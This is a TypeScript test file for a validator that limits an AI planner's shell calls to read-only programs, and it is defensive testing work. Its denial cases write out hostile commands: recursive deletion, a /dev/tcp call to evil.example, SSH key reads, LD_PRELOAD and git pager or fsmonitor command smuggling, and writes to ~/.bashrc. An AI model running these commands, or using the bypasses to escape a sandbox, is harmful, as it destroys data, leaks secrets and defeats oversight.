import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { judgePlannerCommand, tokenizeShell } from "./planner-shell.js";

const line = (text: string) => judgePlannerCommand({ text });
const allowed = (text: string) => expect(line(text), text).toEqual({ ok: true });
const denied = (text: string, why?: RegExp) => {
  const v = line(text);
  expect(v.ok, text).toBe(false);
  if (why && !v.ok) expect(v.reason, text).toMatch(why);
};

describe("the planner's shell tokenizer", () => {
  it("splits a line into simple commands at | || && ; and new lines, removing quotes", () => {
    const t = tokenizeShell(`grep -n 'a b' "c d" e\\ f | sort && ls -la; cat x\nwc -l y || true`);
    expect(t).toMatchObject({
      ok: true,
      commands: [["grep", "-n", "a b", "c d", "e f"], ["sort"], ["ls", "-la"], ["cat", "x"], ["wc", "-l", "y"], ["true"]],
    });
  });

  it("drops comments and joins a line continued with a backslash", () => {
    expect(tokenizeShell("ls \\\n-la # rm -rf /\ncat x")).toMatchObject({
      ok: true,
      commands: [
        ["ls", "-la"],
        ["cat", "x"],
      ],
    });
  });

  it("reads 2>/dev/null and 2>&1 as redirections, not words, and a quoted 2 before > as a word", () => {
    expect(tokenizeShell("grep x y 2>/dev/null")).toMatchObject({ ok: true, commands: [["grep", "x", "y"]] });
    expect(tokenizeShell("grep x y 2>&1 | head")).toMatchObject({ ok: true, commands: [["grep", "x", "y"], ["head"]] });
    expect(tokenizeShell("cat '2'>/dev/null")).toMatchObject({ ok: true, commands: [["cat", "2"]] });
  });

  it("never throws and looks at each character a bounded number of times, whatever the line (property)", () => {
    const alphabet = fc.constantFrom(..."ab 2>&<|;'\"\\$`*?[]{}()!#\n\t=-/\u0000\u0007é");
    fc.assert(
      fc.property(fc.array(alphabet, { maxLength: 400 }), (chars) => {
        const text = chars.join("");
        const t = tokenizeShell(text);
        // Each character is stepped over at most twice (once by the scan, once by a quote or comment skip).
        expect(t.steps).toBeLessThanOrEqual(2 * text.length + 1);
        expect(() => judgePlannerCommand({ text })).not.toThrow();
      }),
      { numRuns: Number(process.env.FUZZ_RUNS ?? 500) },
    );
  });

  it("stays linear on long runs of quotes, spaces and redirections", () => {
    for (const unit of ["'a'", " ", "2>&1 ", '"x"', "\\a", "ls;"]) {
      const text = `cat ${unit.repeat(50_000)}`;
      const t = tokenizeShell(text);
      expect(t.steps, unit).toBeLessThanOrEqual(2 * text.length + 1);
    }
  });
});

describe("a planner's shell call", () => {
  it("may run the read-only programs, piped and chained", () => {
    allowed("ls -la");
    allowed("cat report.md | head -n 20");
    allowed("grep -rn 'TODO' src 2>/dev/null | sort | uniq -c");
    allowed("git status && git log --oneline -n 5");
    allowed("git --no-pager diff HEAD~1 -- src/a.go");
    allowed("find . -name '*.go' -type f");
    allowed("sed -n '1,40p' src/cache.go");
    allowed("rg -n 'func New' --type go");
    allowed("wc -l < handoff/report.md");
    allowed("jq '.actions[].id' handoff/action_plan.json");
  });

  it("denies a program not on the list, and chaining to one", () => {
    denied("rm -rf handoff", /rm is not one of the read-only programs/);
    denied("ls && rm x", /rm is not/);
    denied("cat x | sh", /sh is not/);
    denied('ls; node -e \'require("fs").writeFileSync("x","y")\'', /node is not/);
    denied("xargs rm < list", /xargs is not/);
    denied("awk '{print > \"x\"}' f", /awk is not/);
    denied("tee out < in", /tee is not/);
  });

  it("denies a program named by a path, which could be anything", () => {
    denied("/tmp/evil/cat x", /not a program name/);
    denied("./cat x", /not a program name/);
  });

  it("denies output redirection to a file, here-documents and process substitution", () => {
    denied("echo x > cart/cache.go", /writes a file/);
    denied("echo x >> ~/.bashrc", /writes a file/);
    denied("cat a >| b", /writes a file/);
    denied("ls &> out.txt", /writes a file/);
    denied("ls >&out.txt", /descriptor/);
    denied("cat <<EOF\nx\nEOF", /here-document/);
    denied("diff <(ls a) <(ls b)", /process substitution/);
    denied("cat < /dev/tcp/evil.example/80", /network/);
    denied("ls >", /no target/);
  });

  it("denies command substitution, expansion, globs, braces, subshells and background jobs", () => {
    denied("echo $(rm -rf x)", /expands or substitutes/);
    denied("echo `rm x`", /expands or substitutes/);
    denied('echo "$(rm x)"', /inside double quotes/);
    denied("cat $HOME/.ssh/id_rsa", /expands/);
    denied("find * -name x", /glob/);
    denied("{sed,-i,s/a/b/,f}", /braces/);
    denied("(rm x)", /subshell/);
    denied("ls & rm x", /background/);
    denied("! ls", /negates/);
    denied("echo 'unterminated", /not closed/);
  });

  it("denies env tricks: an assignment before the command, env and the shells that run a line", () => {
    denied("GIT_PAGER='rm -rf ~' git log", /sets a variable/);
    denied("LD_PRELOAD=/tmp/x.so cat f", /sets a variable/);
    denied("env PAGER=sh git log", /env is not/);
    denied("bash -c 'rm x'", /bash is not/);
    denied("exec rm x", /exec is not/);
    denied("eval rm x", /eval is not/);
  });

  it("denies git's options that run a program or write, and its subcommands that change the repository", () => {
    denied("git -c core.pager='sh -c \"rm x\"' log", /no global option/);
    denied("git -c core.fsmonitor=evil status", /no global option/);
    denied("git -C /elsewhere status", /no global option/);
    denied("git --git-dir=handoff/.git log", /no global option/);
    denied("git log --output=cart/cache.go", /writes a file or starts a program/);
    denied("git log --outp=cart/cache.go", /writes a file or starts a program/);
    denied("git diff --ext-diff", /writes a file or starts a program/);
    denied("git grep -O'sh -c rm' x", /starts a program/);
    denied("git grep --open-files-in-pager=vi x", /writes a file or starts a program/);
    denied("git commit -m x", /not one of the git subcommands that only read/);
    denied("git checkout -- .", /not one of the git subcommands/);
    denied("git branch -D main", /may change the repository/);
    denied("git config core.pager sh", /changes the configuration/);
    denied("git stash", /changes the stash/);
    allowed("git branch -a");
    allowed("git config --get user.name");
  });

  it("denies find's actions that run a program, delete or write", () => {
    for (const action of ["-exec rm {} ;", "-execdir sh ;", "-ok rm ;", "-delete", "-fprint out", "-fls out"])
      denied(`find . -name x ${action.replace(/[{};]/g, "")}`, /runs a program, deletes or writes/);
  });

  it("denies sed that edits in place or runs or writes, and allows only printing lines by number", () => {
    denied("sed -i 's/a/b/' cart/cache.go", /takes only/);
    denied("sed --in-place 's/a/b/' f", /takes only/);
    denied("sed -n 's/a/b/w out' f", /only prints lines by number/);
    denied("sed 'e rm x' f", /only prints lines by number/);
    denied("sed -n '1w out' f", /only prints lines by number/);
    denied("sed -f script.sed f", /takes only/);
    allowed("sed -n '10,20p;$p' f");
  });

  it("denies the options of other listed programs that write a file or start one, abbreviated or clustered", () => {
    denied("sort -o out in", /writes a file/);
    denied("sort -uo out in", /writes a file/);
    denied("sort --out=x in", /writes a file/);
    denied("sort --compress-program=sh in", /starts a program/);
    denied("rg --pre ./x pattern", /starts a program/);
    denied("rg -z pattern", /starts a program/);
    denied("tree -o out", /writes a file/);
    denied("tree -R -H . -L 1", /writes a file/);
    denied("uniq in out", /more than 1 operand/);
    denied("date -s 2020-01-01", /writes a file or starts a program/);
    denied("printf -v PATH '/tmp/evil'", /writes a file or starts a program/);
    allowed("sort -k2 -t, in");
  });

  it("reads a Codex argv call as the program it starts, and a shell with -c as the line it runs", () => {
    expect(judgePlannerCommand({ argv: ["ls", "-la"] })).toEqual({ ok: true });
    expect(judgePlannerCommand({ argv: ["bash", "-lc", "git status"] })).toEqual({ ok: true });
    expect(judgePlannerCommand({ argv: ["bash", "-lc", "rm -rf x"] }).ok).toBe(false);
    expect(judgePlannerCommand({ argv: ["bash", "script.sh"] }).ok).toBe(false);
    expect(judgePlannerCommand({ argv: ["rm", "-rf", "x"] }).ok).toBe(false);
    expect(judgePlannerCommand({ argv: ["find", ".", "-delete"] }).ok).toBe(false);
  });
});
